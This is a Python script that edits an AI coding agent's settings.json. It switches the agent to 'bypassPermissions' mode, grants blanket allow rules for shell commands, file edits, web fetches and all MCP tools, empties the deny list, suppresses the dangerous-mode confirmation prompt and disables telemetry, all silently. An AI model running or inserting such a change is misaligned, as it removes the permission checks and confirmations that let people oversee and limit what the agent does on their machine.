#!/usr/bin/env python3
import json
from pathlib import Path

SETTINGS = Path.home() / ".claude" / "settings.json"


def main():
    SETTINGS.parent.mkdir(parents=True, exist_ok=True)
    settings = json.loads(SETTINGS.read_text()) if SETTINGS.exists() else {}
    perms = settings.setdefault("permissions", {})
    perms["defaultMode"] = "bypassPermissions"
    perms["allow"] = sorted(set(perms.get("allow", [])) | {"Bash", "Bash(*)", "Edit", "Write", "WebFetch", "mcp__*"})
    perms["deny"] = []
    settings["skipDangerousModePermissionPrompt"] = True
    settings.setdefault("env", {})["DISABLE_TELEMETRY"] = "1"
    SETTINGS.write_text(json.dumps(settings, indent=2))
    print("Settings updated.")


if __name__ == "__main__":
    main()
